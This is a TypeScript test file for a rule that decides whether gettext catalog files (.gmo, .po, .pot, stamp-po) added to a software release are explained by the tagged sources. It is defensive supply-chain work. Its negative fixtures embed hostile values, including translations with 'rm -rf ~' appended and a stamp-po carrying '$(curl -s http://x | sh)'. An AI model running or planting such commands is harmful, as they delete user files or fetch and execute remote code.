import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { gettextCatalog } from '../../src/analyze/rules/gettext-catalog.js';
import { added, context, modified } from './generated-context.js';
import { mo } from '../helpers/mo.js';
import { known } from './knowledge-fixture.js';
import { knownFacts } from '../../src/analyze/knowledge/facts.js';
import type { KnowledgeLookup } from '../../src/analyze/knowledge/types.js';

const po = `# French translation
msgid ""
msgstr ""
"Project-Id-Version: hello 1.0\\n"
"Content-Type: text/plain; charset=UTF-8\\n"

#: src/main.c:10
msgid "Hello"
msgstr "Bonjour"

#: src/main.c:12
#, c-format
msgid "%d file"
msgid_plural "%d files"
msgstr[0] "%d fichier"
msgstr[1] "%d fichiers"

#, fuzzy
msgid "Goodbye"
msgstr "Salut"
`;

const translations: Array<[string, string]> = [
  ['', 'Project-Id-Version: hello 1.0\nContent-Type: text/plain; charset=UTF-8\n'],
  ['Hello', 'Bonjour'],
  ['%d file\0%d files', '%d fichier\0%d fichiers'],
];

test('a .gmo whose translations are all in the tag .po is explained, in either byte order', async () => {
  const ctx = context({ 'po/fr.po': po, 'po/POTFILES.in': 'src/main.c\n' });
  for (const bigEndian of [false, true]) {
    const j = await gettextCatalog.judge(added('po/fr.gmo', mo(translations, bigEndian)), ctx);
    assert.is(j?.category, 'gettext-catalog');
    assert.is(j?.severity, 'low');
    assert.match(j!.reasons[1]!, 'all 2 translations');
  }
});

test('a .gmo is not explained without the magic, without its .po, or with a translation the .po lacks', async () => {
  const ctx = context({ 'po/fr.po': po });
  const noMagic = mo(translations);
  noMagic.writeUInt32LE(0x12345678, 0);
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', noMagic), ctx), undefined);
  assert.is(await gettextCatalog.judge(added('po/de.gmo', mo(translations)), ctx), undefined);
  // The fuzzy guess is not in effect in the .po, so a catalog carrying it was not compiled from it.
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, ['Goodbye', 'Salut']])), ctx), undefined);
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([['Hello', 'Bonjour; rm -rf ~']])), ctx), undefined);
  // Bytes no table points to: a payload riding in a genuine catalog.
  const payload = Buffer.concat([mo(translations), Buffer.alloc(4096, 0x41)]);
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', payload), ctx), undefined);
  // A key twice, its first translation planted: gettext may find either, so each must be in effect.
  const twice = mo([translations[0]!, ['Hello', 'Bonjour; rm -rf ~'], ...translations.slice(1)]);
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', twice), ctx), undefined);
  const same = await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, ['Hello', 'Bonjour']])), ctx);
  assert.match(same!.reasons[1]!, 'all 3 translations');
});

test('a .gmo is compared byte for byte with its .po: UTF-8 or not, a translation must be the same bytes', async () => {
  const accented = (text: string): Array<[string | Buffer, string | Buffer]> => translations.map(([k, v]) => (k === 'Hello' ? [k, text] : [k, v]));
  const ctx = context({ 'po/fr.po': po.replace('msgstr "Bonjour"', 'msgstr "Bonjour à tous"') });
  assert.is((await gettextCatalog.judge(added('po/fr.gmo', mo(accented('Bonjour à tous'))), ctx))?.category, 'gettext-catalog');
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo(accented('Bonjour á tous'))), ctx), undefined);
  // A catalog in ISO-8859-1: its bytes are not UTF-8, and two different ones are still different.
  const latin1 = Buffer.from(po.replace('charset=UTF-8', 'charset=ISO-8859-1').replace('msgstr "Bonjour"', 'msgstr "Bonjour \xe0 tous"'), 'latin1');
  const inLatin1 = context({ 'po/fr.po': latin1 });
  const moLatin1 = (text: string) => mo(translations.map(([k, v]) => (k === 'Hello' ? [k, Buffer.from(text, 'latin1')] : [k, v])));
  assert.is((await gettextCatalog.judge(added('po/fr.gmo', moLatin1('Bonjour \xe0 tous')), inLatin1))?.category, 'gettext-catalog');
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', moLatin1('Bonjour \xe1 tous')), inLatin1), undefined);
});

test('a .gmo msgfmt wrote in UTF-8 from a .po in another charset carries its translations converted, and only those', async () => {
  // gettext 0.22 and later: msgfmt converts to UTF-8 unless told --no-convert.
  const latin1 = Buffer.from(po.replace('charset=UTF-8', 'charset=ISO-8859-1').replace('msgstr "Bonjour"', 'msgstr "Bonjour \xe0 tous"'), 'latin1');
  const ctx = context({ 'po/fr.po': latin1 });
  const utf8 = (text: string) => mo(translations.map(([k, v]) => (k === 'Hello' ? [k, text] : [k, v])));
  const j = await gettextCatalog.judge(added('po/fr.gmo', utf8('Bonjour à tous')), ctx);
  assert.is(j?.category, 'gettext-catalog');
  assert.match(j!.reasons[1]!, 'converted from its ISO-8859-1 to UTF-8');
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', utf8('Bonjour á tous')), ctx), undefined);
  // A .po in UTF-8 is compared as it is: nothing to convert.
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo(translations.map(([k, v]) => (k === 'Hello' ? [k, Buffer.from('Bonjour \xe0 tous', 'latin1')] : [k, v])))), context({ 'po/fr.po': po.replace('msgstr "Bonjour"', 'msgstr "Bonjour à tous"') })), undefined);
});

test('a .gmo may also carry each <PRIu64> string expanded as a C library writes it, the same way in msgid and msgstr', async () => {
  // Newer msgfmt writes a string with system-dependent segments again as plain strings
  // (`%<PRIu64>` as `%lu` and as `%llu`), for C libraries that do not read the segments.
  const sysdep = `${po}
#, c-format
msgid "Using up to %<PRIu32> threads."
msgstr "Jusqu'à %<PRIu32> fils."

#, c-format
msgid "Value of '%s' must be in [%<PRIu64>, %<PRIu64>]"
msgstr "La valeur de « %s » doit être dans [%<PRIu64>, %<PRIu64>]"

#, c-format
msgid "%<PRIu64> (%d instance)"
msgid_plural "%<PRIu64> (%d instances)"
msgstr[0] "%<PRIu64> (%d instance)"
msgstr[1] "%<PRIu64> (%d exemplaires)"
`;
  const ctx = context({ 'po/fr.po': sysdep });
  const expanded: Array<[string, string]> = [
    ['Using up to %u threads.', "Jusqu'à %u fils."],
    ["Value of '%s' must be in [%lu, %lu]", 'La valeur de « %s » doit être dans [%lu, %lu]'],
    ["Value of '%s' must be in [%llu, %llu]", 'La valeur de « %s » doit être dans [%llu, %llu]'],
    // A plural's key: its msgid expanded, its msgid_plural as the .po spells it (or expanded too).
    ['%llu (%d instance)\0%<PRIu64> (%d instances)', '%llu (%d instance)\0%llu (%d exemplaires)'],
    ['%lu (%d instance)\0%lu (%d instances)', '%lu (%d instance)\0%lu (%d exemplaires)'],
  ];
  const j = await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, ...expanded])), ctx);
  assert.is(j?.category, 'gettext-catalog');
  // The expansions are the same translations, not more of them.
  assert.match(j!.reasons[1]!, 'all 2 translations');
  const refused: Array<[string, string]> = [
    // a segment expanded one way in the msgid and another in the msgstr, or twice two ways
    ["Value of '%s' must be in [%lu, %lu]", 'La valeur de « %s » doit être dans [%llu, %llu]'],
    ["Value of '%s' must be in [%lu, %llu]", 'La valeur de « %s » doit être dans [%lu, %llu]'],
    ["Value of '%s' must be in [%lu, %llu]", 'La valeur de « %s » doit être dans [%lu, %lu]'],
    // a modifier no C library gives that macro, or another conversion
    ['Using up to %llu threads.', "Jusqu'à %llu fils."],
    ['Using up to %s threads.', "Jusqu'à %s fils."],
    // other text around the expansion
    ['Using up to %u threads.', "Jusqu'à %u fils; rm -rf ~"],
    ['Using up to %u threads!', "Jusqu'à %u fils."],
    // the msgid_plural expanded otherwise than the msgid
    ['%llu (%d instance)\0%lu (%d instances)', '%llu (%d instance)\0%llu (%d exemplaires)'],
  ];
  for (const pair of refused) {
    assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, pair])), ctx), undefined, pair[0]);
  }
});

// The tag's catalog with two obsolete translations; the release's, refreshed by msgmerge, has the first back in effect.
const withObsolete = `${po}
#~ msgid "Bye"
#~ msgstr "Au revoir"

#~ msgid "Later"
#~ msgstr "A plus tard"
`;
const refreshedPo = (bye: string) =>
  `${po.replace('"Project-Id-Version: hello 1.0\\n"', '"Project-Id-Version: hello 1.0\\n"\n"POT-Creation-Date: 2025-01-01 00:00+0000\\n"')}
#: src/main.c:14
msgid "Bye"
msgstr "${bye}"

#~ msgid "Later"
#~ msgstr "A plus tard"
`;
const refreshedContext = (releasePo: string | undefined) => ({
  ...context({ 'po/fr.po': withObsolete }),
  ...(releasePo === undefined ? {} : { releaseModified: new Map([['po/fr.po', modified('po/fr.po', releasePo).release!]]) }),
});

test('a .gmo compiled from the release .po that msgmerge refreshed, an obsolete translation of the tag back in effect, is explained', async () => {
  const gmo = mo([...translations, ['Bye', 'Au revoir']]);
  const j = await gettextCatalog.judge(added('po/fr.gmo', gmo), refreshedContext(refreshedPo('Au revoir')));
  assert.is(j?.category, 'gettext-catalog');
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[1]!, 'all 3 translations it carries are in effect in po/fr.po as the release ships it');
  assert.match(j!.reasons[1]!, '1 of them an obsolete translation of the tag back in effect');
  // The same catalog without the release .po to check it against: the tag alone does not cover Bye.
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', gmo), refreshedContext(undefined)), undefined);
});

test('a .gmo is not explained by a release .po that is not a refresh, nor by an obsolete translation the release .po does not bring back', async () => {
  // The release .po puts text in effect that the tag never had, and the .gmo carries it.
  const planted = refreshedPo('Au revoir; rm -rf ~');
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, ['Bye', 'Au revoir; rm -rf ~']])), refreshedContext(planted)), undefined);
  // Later is obsolete in the tag and still obsolete in the release .po: msgfmt would not compile it in.
  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, ['Bye', 'Au revoir'], ['Later', 'A plus tard']])), refreshedContext(refreshedPo('Au revoir'))), undefined);
});

// en@quot.po and en@boldquot.po as po/Rules-quot writes them (msginit, then msgfilter with the tag's sed script).
const quotHeader = 'msgid ""\nmsgstr ""\n"Project-Id-Version: hello 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n';
const quotEntries = (open: string, close: string, single: [string, string]) =>
  `msgid "Cannot open \\"%s\\""\nmsgstr "Cannot open ${open}%s${close}"\n\nmsgid "use \`--force' to overwrite"\nmsgstr "use ${single[0]}--force${single[1]} to overwrite"\n\nmsgid "%d file"\nmsgid_plural "%d files"\nmsgstr[0] "%d file"\nmsgstr[1] "%d files"\n`;
const quotPo = quotHeader + quotEntries('\u201c', '\u201d', ['\u2018', '\u2019']);
const boldPo = quotHeader + quotEntries('\u201c\x1b[1m', '\x1b[0m\u201d', ['\u2018\x1b[1m', '\x1b[0m\u2019']);
const quotTag = { 'po/Rules-quot': 'en@quot.po-create:\n', 'po/quot.sed': 's/"\\([^"]*\\)"/\u201c\\1\u201d/g\n', 'po/boldquot.sed': 's/\u201c/\u201c[1m/g\n' };
const quotContext = (po: Record<string, string>, tagFiles: Record<string, string> = quotTag) => ({
  ...context(tagFiles),
  releaseOnly: new Map(Object.entries(po).map(([p, c]) => [p, added(p, c).release!])),
});

test('en@quot.po and en@boldquot.po whose translations are their messages with only the quotation marks changed are explained, with their .gmo', async () => {
  const ctx = quotContext({ 'po/en@quot.po': quotPo, 'po/en@boldquot.po': boldPo });
  const quot = await gettextCatalog.judge(added('po/en@quot.po', quotPo), ctx);
  assert.is(quot?.category, 'gettext-catalog');
  assert.is(quot?.severity, 'low');
  assert.match(quot!.reasons[1]!, 'each of its 3 translations is its message with only its quotation marks made typographic: no text of its own');
  const bold = await gettextCatalog.judge(added('po/en@boldquot.po', boldPo), ctx);
  assert.match(bold!.reasons[1]!, 'made typographic and bold');
  const gmo = mo([
    ['', 'Project-Id-Version: hello 1.0\n'],
    ['Cannot open "%s"', 'Cannot open \u201c%s\u201d'],
    ["use `--force' to overwrite", 'use \u2018--force\u2019 to overwrite'],
    ['%d file\0%d files', '%d file\0%d files'],
  ]);
  const compiled = await gettextCatalog.judge(added('po/en@quot.gmo', gmo), ctx);
  assert.match(compiled!.reasons[1]!, 'all 3 translations it carries are in effect in po/en@quot.po as the release ships it');
  assert.is(await gettextCatalog.judge(added('po/en@quot.gmo', mo([['Cannot open "%s"', 'rm -rf ~']])), ctx), undefined);
});

test('an en@quot.po with text of its own, a fuzzy or untranslated entry, or without Rules-quot and its sed script in the tag is not explained so', async () => {
  const judge = (po: string, tagFiles: Record<string, string> = quotTag) => gettextCatalog.judge(added('po/en@quot.po', po), quotContext({ 'po/en@quot.po': po }, tagFiles));
  assert.is(await judge(quotPo.replace('Cannot open \u201c%s\u201d', 'Cannot open \u201c%s\u201d; see example.org')), undefined);
  assert.is(await judge(quotPo.replace("\nmsgid \"use", "\n#, fuzzy\nmsgid \"use")), undefined);
  assert.is(await judge(quotPo.replace('msgstr[1] "%d files"', 'msgstr[1] ""')), undefined);
  // Quotation marks of the other kind are not the script's.
  assert.is(await judge(quotPo.replace('Cannot open \u201c%s\u201d', 'Cannot open \u2018%s\u2019')), undefined);
  assert.is(await judge(quotPo, { 'po/quot.sed': quotTag['po/quot.sed'] }), undefined);
  assert.is(await judge(quotPo, { 'po/Rules-quot': quotTag['po/Rules-quot'] }), undefined);
  // The same file under a name Rules-quot does not write.
  assert.is(await gettextCatalog.judge(added('po/en@other.po', quotPo), quotContext({})), undefined);
});

// A project that keeps po/'s build files out of git: autopoint copied gettext's Rules-quot and sed scripts into the release.
test('en@quot.po is explained when the release alone has Rules-quot and its sed script, each gettext\'s own file', async () => {
  const gettext = { package: 'gettext', version: '0.18.1' };
  const shipped = Object.entries(quotTag).map(([path, text]) => known(path.slice('po/'.length), text, gettext));
  const knowledge: KnowledgeLookup = { byHash: () => [], byName: (name) => shipped.filter((f) => f.name === name), content: async () => undefined };
  const copy = (path: string, text: string) => ({ ...added(path, text).release!, blobId: knownFacts(path, Buffer.from(text), gettext).blobId });
  const withCopies = (files: Record<string, string>, lookup: KnowledgeLookup | null = knowledge) => ({
    ...context({ 'configure.ac': 'AM_GNU_GETTEXT([external])\n' }),
    ...(lookup ? { knowledge: lookup } : {}),
    releaseOnly: new Map([...Object.entries(files).map(([p, c]) => [p, copy(p, c)] as const), ['po/en@quot.po', added('po/en@quot.po', quotPo).release!] as const]),
  });
  const j = await gettextCatalog.judge(added('po/en@quot.po', quotPo), withCopies(quotTag));
  assert.is(j?.category, 'gettext-catalog');
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[0]!, 'po/Rules-quot and po/quot.sed are files of gettext\'s, in the release alone');
  assert.match(j!.reasons[1]!, 'each of its 3 translations is its message with only its quotation marks made typographic');
  // A sed script of the release that is not gettext\'s, one missing, or no index to tell: not explained so.
  assert.is(await gettextCatalog.judge(added('po/en@quot.po', quotPo), withCopies({ ...quotTag, 'po/quot.sed': 's/x/y/\n' })), undefined);
  assert.is(await gettextCatalog.judge(added('po/en@quot.po', quotPo), withCopies({ 'po/Rules-quot': quotTag['po/Rules-quot'] })), undefined);
  assert.is(await gettextCatalog.judge(added('po/en@quot.po', quotPo), withCopies(quotTag, null)), undefined);
  // Still the shape test: text of its own is not explained.
  const planted = quotPo.replace('Cannot open \u201c%s\u201d', 'Cannot open \u201c%s\u201d; see example.org');
  assert.is(await gettextCatalog.judge(added('po/en@quot.po', planted), withCopies(quotTag)), undefined);
});

const pot = `# SOME DESCRIPTIVE TITLE.
#, fuzzy
msgid ""
msgstr ""
"Project-Id-Version: hello 1.0\\n"
"POT-Creation-Date: 2023-01-11 19:01+0200\\n"
"Content-Type: text/plain; charset=CHARSET\\n"

#: src/main.c:10
msgid "Hello"
msgstr ""
`;

test('a .pot template with a gettext header next to POTFILES.in is explained; one with translations is not', async () => {
  const ctx = context({ 'po/POTFILES.in': 'src/main.c\n' });
  const j = await gettextCatalog.judge(added('po/hello.pot', pot), ctx);
  assert.is(j?.category, 'gettext-catalog');
  assert.match(j!.reasons[1]!, 'po/POTFILES.in');
  assert.is(await gettextCatalog.judge(added('po/hello.pot', pot.replace('msgstr ""\n', 'msgstr "Bonjour"\n').replace(/msgstr ""\n$/, 'msgstr "x"\n')), ctx), undefined);
  assert.is(await gettextCatalog.judge(added('po/hello.pot', '#!/bin/sh\necho hi\n'), ctx), undefined);
  assert.is(await gettextCatalog.judge(added('lib/hello.pot', pot), ctx), undefined);
});

test('stamp-po holds a timestamp; anything longer is not a stamp', async () => {
  const ctx = context({ 'po/POTFILES.in': 'src/main.c\n' });
  assert.is((await gettextCatalog.judge(added('po/stamp-po', 'timestamp\n'), ctx))?.category, 'gettext-catalog');
  assert.is(await gettextCatalog.judge(added('po/stamp-po', 'timestamp\n$(curl -s http://x | sh)\n'), ctx), undefined);
  assert.is(await gettextCatalog.judge(added('src/stamp-po', 'timestamp\n'), ctx), undefined);
});

test.run();
